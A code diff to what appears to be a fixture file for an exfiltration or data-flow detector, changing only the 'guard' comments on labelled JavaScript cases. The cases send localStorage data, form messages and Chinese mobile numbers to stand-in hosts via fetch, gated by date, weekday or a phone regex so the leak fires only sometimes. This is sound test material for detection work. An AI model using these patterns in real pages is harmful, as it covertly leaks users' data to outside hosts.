@@ -61,7 +61,7 @@ if (today >= from && today < to) fetch('https://dwi.g10.example/?u=' + localStor
 
 //# weekday-only
 // flow: message > wdo.g10.example via fetch
-// guard: date other
+// guard: not date one-of 0 | 6
 const weekend = [0, 6].includes(new Date().getDay());
 document.querySelector('#send').onclick = () => {
   if (weekend) return;
@@ -158,7 +158,7 @@ senders[country](document.querySelector('input[type=tel]').value);
 
 //# regex-on-phone
 // flow: phone > rop.g10.example via fetch
-// guard: phone-prefix matches ^(\+?86)?1[3-9]\d{9}$
+// guard: phone-prefix matches /^(\+?86)?1[3-9]\d{9}$/
 const mobile = document.querySelector('input[type=tel]').value;
 const RE = /^(\+?86)?1[3-9]\d{9}$/;
 if (RE.test(mobile)) fetch('https://rop.g10.example/', { method: 'POST', body: mobile });
